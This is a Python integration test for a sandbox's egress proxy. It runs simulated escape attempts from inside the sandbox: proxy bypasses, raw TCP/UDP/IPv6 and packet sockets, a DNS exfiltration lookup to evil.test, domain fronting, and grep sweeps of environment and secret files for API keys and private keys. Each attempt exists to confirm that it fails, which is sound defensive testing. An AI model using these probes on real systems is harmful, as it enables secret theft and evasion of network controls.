#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Egress attacks from inside a real sandbox (`airlock run --network proxy`
with the real proxy), as root and, when run as root, again as an
unprivileged user (rootless): the allowed path works through the proxy
variables; `--noproxy '*'`, `NO_PROXY=*`, raw TCP, UDP and IPv6 find no
route; the sandbox's resolver answers only allowed names and the test
resolver never sees the others; an injection route adds the key while the
sandbox's environment and files never hold it; an inspected host is reached
with the generated trust store (no -k), the proxy's CA key is nowhere in the
sandbox, and domain fronting through it is refused 421; each request that
reached the proxy left exactly one record.  Under --isolation gvisor (when
runsc is installed) and --isolation vm (when QEMU and a guest kernel are)
the same attacks run again; under vm also bulk transfers both ways over
several connections at once (the one virtio-serial port they share).

usage: sandbox_test.py BIN_DIR
"""
import glob
import hashlib
import json
import os
import pwd
import shutil
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import egress_test as et  # noqa: E402  (upstreams, certificates, resolver)

TEST_USER = os.environ.get("AIRLOCK_TEST_USER", "airlock-test")
T = et.TMP
os.chmod(T, 0o755)


def ensure_user():
    try:
        return pwd.getpwnam(TEST_USER)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", TEST_USER],
                       check=True)
        return pwd.getpwnam(TEST_USER)


class Mode:
    def __init__(self, name, user, iso=()):
        self.name = name
        self.user = user
        self.iso = list(iso)  # --isolation gvisor: the same attacks through gVisor's relay
        self.dir = os.path.join(T, name)
        os.makedirs(self.dir)
        self.state = os.path.join(self.dir, "state")
        os.makedirs(self.state, mode=0o700)
        if user:
            for d in (self.dir, self.state):
                os.chown(d, user.pw_uid, user.pw_gid)
        self.log = os.path.join(self.dir, "egress.log")
        self.seen = 0
        self.degraded = []

    def prefix(self):
        if not self.user:
            return []
        return ["setpriv", "--reuid=%d" % self.user.pw_uid, "--regid=%d" % self.user.pw_gid, "--init-groups",
                "env", "HOME=" + self.dir]

    def secret_set(self, name, value):
        r = subprocess.run(self.prefix() + [BIN_AIRLOCK, "secret", "set", name, "--state-dir", self.state],
                           input=value.encode(), capture_output=True)
        et.check(r.returncode == 0, "[%s] secret set: %s" % (self.name, r.stderr))

    def run(self, script, cfg, extra=()):
        cmd = self.prefix() + [BIN_AIRLOCK, "run", *self.degraded, *self.iso, "--network", "proxy", "--config", cfg,
                               "--egress-log", self.log, "--state-dir", self.state, *extra, "--", "sh", "-c", script]
        return subprocess.run(cmd, capture_output=True, text=True, timeout=60)

    def new_records(self):
        time.sleep(0.1)
        try:
            with open(self.log) as f:
                recs = [json.loads(l) for l in f if l.strip()]
        except FileNotFoundError:
            recs = []
        out = recs[self.seen:]
        self.seen = len(recs)
        return out


def attacks(mode, cfg, port):
    n = mode.name
    url = "http://allowed.test:%d/inside" % port
    # 0. the allowed path, through the proxy variables
    r = mode.run('curl -sS --max-time 10 %s' % url, cfg)
    et.check(r.returncode == 0 and "hello from GET /inside" in r.stdout,
             "[%s] allowed request through the proxy (rc %d, %s %s)" % (n, r.returncode, r.stdout, r.stderr))
    recs = mode.new_records()
    et.check(len(recs) == 1 and recs[0]["verdict"] == "allow" and recs[0]["sandbox"],
             "[%s] one allow record for it: %s" % (n, recs))

    # 9. bypasses: no proxy, raw TCP, UDP, IPv6 -- no route at all
    script = r'''
curl -sS --max-time 5 --noproxy '*' %(url)s >/dev/null 2>&1 && echo NOPROXY-OK
NO_PROXY='*' no_proxy='*' curl -sS --max-time 5 %(url)s >/dev/null 2>&1 && echo NO_PROXY-OK
python3 - <<'PY'
import socket, errno
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect(addr); print("TCP-OK", addr)
    except OSError as e:
        print("tcp", addr, errno.errorcode.get(e.errno, e.errno))
tcp(socket.AF_INET, ("127.0.0.2", %(port)d))
tcp(socket.AF_INET, ("1.1.1.1", 443))
tcp(socket.AF_INET6, ("2606:4700:4700::1111", 443))
tcp(socket.AF_INET, ("198.18.0.1", %(port)d))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("8.8.8.8", 53)); print("UDP-OK")
except OSError as e:
    print("udp", errno.errorcode.get(e.errno, e.errno))
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("RAW-OK")
except OSError as e:
    print("raw", errno.errorcode.get(e.errno, e.errno))
PY
ip route 2>/dev/null | wc -l
echo NETDEVS: $(ls /sys/class/net)
''' % {"url": url, "port": port}
    r = mode.run(script, cfg)
    out = r.stdout
    et.check("NOPROXY-OK" not in out, "[%s] curl --noproxy '*' fails: %s" % (n, out))
    et.check("NO_PROXY-OK" not in out, "[%s] NO_PROXY=* fails" % n)
    # gVisor's netstack says EHOSTUNREACH where Linux without a route says ENETUNREACH
    unreach = out.count("ENETUNREACH") + (out.count("EHOSTUNREACH") if mode.iso else 0)
    et.check("TCP-OK" not in out and unreach >= 4, "[%s] raw TCP/IPv6 unreachable: %s" % (n, out))
    et.check("UDP-OK" not in out, "[%s] UDP out fails" % n)
    if "vm" in mode.iso:
        # the guest's root may open a packet socket: on a machine whose only
        # device is its own loopback
        et.check("NETDEVS: lo\n" in out, "[%s] the guest has no network device but lo: %s" % (n, out))
    else:
        et.check("RAW-OK" not in out, "[%s] no raw packet socket" % n)
    recs = [r for r in mode.new_records() if r.get("kind") != "dns"]  # curl still asks the sandbox's resolver
    et.check(len(recs) == 0, "[%s] the bypass attempts never reached the proxy: %s" % (n, recs))

    # 5. DNS from inside: allowed names get the synthetic address; others NXDOMAIN and never leave
    token = "ZXhmaWw" + os.urandom(4).hex()
    r = mode.run("getent hosts allowed.test; getent hosts %s.evil.test || echo NXDOMAIN; cat /etc/resolv.conf" % token,
                 cfg)
    et.check("198.18.0.1" in r.stdout and "NXDOMAIN" in r.stdout and "nameserver 127.0.0.1" in r.stdout,
             "[%s] sandbox resolver: %s %s" % (n, r.stdout, r.stderr))
    recs = mode.new_records()
    dns = [x for x in recs if x.get("kind") == "dns"]
    et.check(any(x["verdict"] == "deny" and token.lower() in x.get("host", "") for x in dns),
             "[%s] the exfiltration lookup was recorded as denied: %s" % (n, dns))
    with open(et.QUERY_LOG) as f:
        et.check(token.lower() not in f.read().lower(), "[%s] the lookup never reached a resolver" % n)

    # a denied host through the proxy: 403 with the reason, one record
    r = mode.run("curl -sS -o /dev/null -w '%%{http_code}' --max-time 5 http://other.test:%d/" % port, cfg)
    et.check(r.stdout.strip() == "403", "[%s] denied host answered 403 (%s)" % (n, r.stdout))
    recs = mode.new_records()
    et.check(len(recs) == 1 and recs[0]["verdict"] == "deny", "[%s] one deny record: %s" % (n, recs))

    # injection route: the key reaches the upstream, never the sandbox
    before = len(et.UPSTREAM_SEEN)
    script = r'''
curl -sS --max-time 10 -X POST -d '{"m":1}' http://127.0.0.1:3128/llm/v1/messages
echo; env; cat /run/secrets/* 2>/dev/null; ls -la /run 2>&1
grep -rs "%s" /tmp /etc /run /proc/self/environ "$HOME" >/dev/null && echo SECRET-VISIBLE
''' % et.SECRET
    r = mode.run(script, cfg)
    et.check("hello from POST /v1/messages" in r.stdout, "[%s] route works from inside: %s %s" % (n, r.stdout,
                                                                                             r.stderr))
    et.check(len(et.UPSTREAM_SEEN) == before + 1 and
             {k.lower(): v for k, v in et.UPSTREAM_SEEN[-1][2].items()}.get("x-api-key") == et.SECRET,
             "[%s] upstream got the key" % n)
    et.check(et.SECRET not in r.stdout and et.SECRET not in r.stderr and "SECRET-VISIBLE" not in r.stdout,
             "[%s] the key is nowhere in the sandbox" % n)
    recs = mode.new_records()
    et.check(len(recs) == 1 and recs[0]["kind"] == "route", "[%s] one route record: %s" % (n, recs))
    with open(mode.log) as f:
        et.check(et.SECRET not in f.read(), "[%s] the key is not in the records" % n)


def inspected(mode, cfg, front, api):
    """An inspected host from inside: curl and Python trust the proxy's
    certificate through the generated bundle, fronting is refused, and only
    the CA's certificate is in the sandbox."""
    n = mode.name
    url = "https://allowed.test:%d" % front
    script = r'''
curl -sS --max-time 10 %(url)s/in; echo
curl -sS --max-time 10 -o /dev/null -w 'FRONT %%{http_code}\n' -H 'Host: other.test:%(port)d' %(url)s/front
python3 -c "import urllib.request; print(urllib.request.urlopen('%(url)s/py').read().decode())"
for f in /run/airlock/*; do echo "${f##*/}"; done
cmp /run/airlock/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt && echo SAME-BUNDLE
tail -c $(wc -c < /run/airlock/egress-ca.crt) /run/airlock/ca-certificates.crt | cmp - /run/airlock/egress-ca.crt && echo CA-LAST
grep -c 'BEGIN CERTIFICATE' /run/airlock/egress-ca.crt
echo "SSL_CERT_FILE=$SSL_CERT_FILE REQUESTS_CA_BUNDLE=$REQUESTS_CA_BUNDLE CURL_CA_BUNDLE=$CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS"
(env; cat /proc/self/environ /proc/1/environ) 2>/dev/null | grep -a 'PRIVATE' && echo KEY-IN-ENV
grep -rlsa 'PRIVATE KEY' /run /etc /tmp "$HOME" /dev/shm && echo KEY-IN-FILES
cat /run/airlock/egress-ca.crt
''' % {"url": url, "port": front}
    r = mode.run(script, cfg)
    out = r.stdout
    et.check("site allowed.test: GET /in" in out, "[%s] curl reaches the inspected host, no -k (%s %s)" % (n, out, r.stderr))
    et.check("FRONT 421" in out, "[%s] domain fronting from inside refused 421" % n)
    et.check("site allowed.test: GET /py" in out, "[%s] Python trusts the proxy's certificate by default" % n)
    et.check("ca-certificates.crt\negress-ca.crt" in out and "SAME-BUNDLE" in out and "CA-LAST" in out,
             "[%s] the bundle: at /run/airlock and over the system store, the CA last: %s" % (n, out))
    et.check("SSL_CERT_FILE=/run/airlock/ca-certificates.crt REQUESTS_CA_BUNDLE=/run/airlock/ca-certificates.crt "
             "CURL_CA_BUNDLE=/run/airlock/ca-certificates.crt NODE_EXTRA_CA_CERTS=/run/airlock/egress-ca.crt" in out,
             "[%s] the trust variables" % n)
    et.check("KEY-IN-ENV" not in out and "KEY-IN-FILES" not in out, "[%s] no private key in the sandbox: %s" % (n, out))
    et.check("Sanitizer" not in r.stderr, "[%s] the proxy (its stderr is the launcher's) is clean: %s" % (n, r.stderr))
    ca = out[out.find("-----BEGIN CERTIFICATE-----"):]
    recs = [x for x in mode.new_records() if x.get("kind") != "dns"]
    et.check([(x["verdict"], x["status"]) for x in recs] == [("allow", 200), ("deny", 421), ("allow", 200)] and
             "inspected" in recs[0]["reason"] and "domain fronting" in recs[1]["reason"],
             "[%s] one record per connection: %s" % (n, recs))
    # injection on an inspected host: plain https://api.test from inside,
    # the upstream gets the key, the sandbox never holds it
    before = len(et.UPSTREAM_SEEN)
    script = r'''
curl -sS --max-time 10 -H 'x-api-key: fake' -d '{"m":1}' https://api.test:%d/v1/messages; echo
env; cat /run/airlock/* /proc/self/environ 2>/dev/null
grep -rs "%s" /tmp /etc /run "$HOME" >/dev/null && echo SECRET-VISIBLE
''' % (api, et.SECRET)
    r = mode.run(script, cfg)
    et.check("hello from POST /v1/messages" in r.stdout, "[%s] inspected host with injection: %s %s" % (n, r.stdout,
                                                                                                     r.stderr))
    got = et.UPSTREAM_SEEN[before:]
    et.check(len(got) == 1 and [v for k, v in got[0][2].items() if k.lower() == "x-api-key"] == [et.SECRET],
             "[%s] the inspected upstream got the key instead of the sandbox's" % n)
    et.check(et.SECRET not in r.stdout and et.SECRET not in r.stderr and "SECRET-VISIBLE" not in r.stdout,
             "[%s] the key is nowhere in the sandbox (inspected host)" % n)
    recs = [x for x in mode.new_records() if x.get("kind") != "dns"]
    et.check(len(recs) == 1 and "inspected; 1 request" in recs[0]["reason"], "[%s] one record: %s" % (n, recs))
    # each sandbox has its own CA
    r = mode.run("cat /run/airlock/egress-ca.crt", cfg)
    et.check(r.stdout.startswith("-----BEGIN CERTIFICATE-----") and r.stdout != ca, "[%s] a new CA per sandbox" % n)
    # a sandbox without inspected hosts has none of it
    r = mode.run("[ -e /run/airlock ] && ls /run/airlock || echo 'No such file'; echo SSL_CERT_FILE=$SSL_CERT_FILE",
                 mode.plain_cfg)
    et.check("No such file" in r.stdout and "SSL_CERT_FILE=\n" in r.stdout, "[%s] no inspection, no CA: %s" % (n, r.stdout))
    mode.new_records()


def vm_extra(mode, port):
    """--isolation vm: many bytes both ways over several connections at
    once through the port they share"""
    n = mode.name
    size = 3000000
    want = hashlib.sha256(et.pattern(size)).hexdigest()
    before = len(et.UPSTREAM_SEEN)
    script = '''
for i in 1 2 3 4; do
  curl -sS --max-time 120 http://allowed.test:%(port)d/bytes/%(size)d | sha256sum > /tmp/h$i &
done
wait
cat /tmp/h1 /tmp/h2 /tmp/h3 /tmp/h4
head -c 5000000 /dev/zero | curl -sS --max-time 120 --data-binary @- http://allowed.test:%(port)d/upload; echo
''' % {"port": port, "size": size}
    r = mode.run(script, mode.plain_cfg)
    et.check(r.stdout.count(want) == 4, "[%s] four 3 MB downloads at once arrive whole: %s %s" % (n, r.stdout, r.stderr))
    got = [x for x in et.UPSTREAM_SEEN[before:] if x[1] == "/upload"]
    et.check("hello from POST /upload" in r.stdout and len(got) == 1 and got[0][3] == b"\0" * 5000000,
             "[%s] a 5 MB upload arrives whole: %s" % (n, r.stdout))
    recs = [x for x in mode.new_records() if x.get("kind") != "dns"]
    et.check(len(recs) == 5 and all(x["verdict"] == "allow" for x in recs), "[%s] five allow records: %s" % (n, recs))


def main():
    global BIN_AIRLOCK
    et.make_certs()
    bindir = os.path.join(T, "bin")
    os.makedirs(bindir)
    for b in ("airlock", "airlock-node", "airlock-gvisor-relay", "airlock-vm-init"):
        shutil.copy(os.path.join(et.BIN, b), bindir)
    os.chmod(bindir, 0o755)
    BIN_AIRLOCK = os.path.join(bindir, "airlock")
    for f in ("ca.pem",):
        os.chmod(os.path.join(T, f), 0o644)
    port = et.free_port()
    tls_port = et.free_port()
    import ssl
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(os.path.join(T, "srv.pem"), os.path.join(T, "srv.key"))
    front = et.free_port()
    servers = [et.serve(port), et.serve(tls_port, tls), et.serve_front(front)]
    names = {"allowed.test": [et.UP], "api.test": [et.UP], "other.test": [et.UP]}
    dns_port = et.start_resolver(names)
    os.chmod(et.QUERY_LOG, 0o644)
    network = {
        "mode": "proxy", "allow": ["allowed.test:%d" % port], "allowAddresses": [et.UP],
        "resolver": "127.0.0.1:%d" % dns_port, "upstreamCa": os.path.join(T, "ca.pem"),
        "inject": [{"path": "/llm/", "upstream": "https://api.test:%d" % tls_port,
                    "inject": {"header": "x-api-key", "secret": "anthropic"}}]}
    plain_cfg = os.path.join(T, "plain.json")
    with open(plain_cfg, "w") as f:
        json.dump({"network": network}, f)
    cfg = os.path.join(T, "sandbox.json")
    network["allow"] = network["allow"] + [
        {"host": "allowed.test:%d" % front, "inspect": True},
        {"host": "api.test:%d" % tls_port, "inspect": True, "inject": {"header": "x-api-key", "secret": "anthropic"}}]
    with open(cfg, "w") as f:
        json.dump({"network": network}, f)
    for c in (cfg, plain_cfg):
        os.chmod(c, 0o644)
    modes = [Mode("root", None)] if os.geteuid() == 0 else [Mode("user", None)]
    if os.geteuid() == 0:
        modes.append(Mode("rootless", ensure_user()))
    plain = list(modes)
    if shutil.which("runsc"):
        gv = ["--isolation", "gvisor"]
        modes += [Mode(m.name + "-gvisor", m.user, gv) for m in plain]
    else:
        print("SKIP the --isolation gvisor modes: no runsc on PATH (Debian: apt-get install runsc)", flush=True)
    if shutil.which("qemu-system-x86_64") and glob.glob("/boot/vmlinuz-*"):
        modes += [Mode(m.name + "-vm", m.user, ["--isolation", "vm"]) for m in plain]
    else:
        print("SKIP the --isolation vm modes: no qemu-system-x86_64 or no /boot/vmlinuz-*", flush=True)
    for m in modes:
        m.secret_set("anthropic", et.SECRET)
        probe = subprocess.run(m.prefix() + [BIN_AIRLOCK, "run", "--", "true"], capture_output=True)
        if probe.returncode != 0 or "vm" in m.iso:
            m.degraded = ["--allow-degraded"]  # no delegated cgroup for this user; a VM here is emulated
        m.plain_cfg = plain_cfg
        print("-- sandbox attacks as", m.name, flush=True)
        attacks(m, cfg, port)
        if "vm" in m.iso:
            vm_extra(m, port)
        print("-- inspected host as", m.name, flush=True)
        inspected(m, cfg, front, tls_port)
    for s in servers:
        s.shutdown()
    print("%d passed, %d failed" % (et.PASSES, len(et.FAILS)))
    return 1 if et.FAILS else 0


if __name__ == "__main__":
    et.run_main(main)
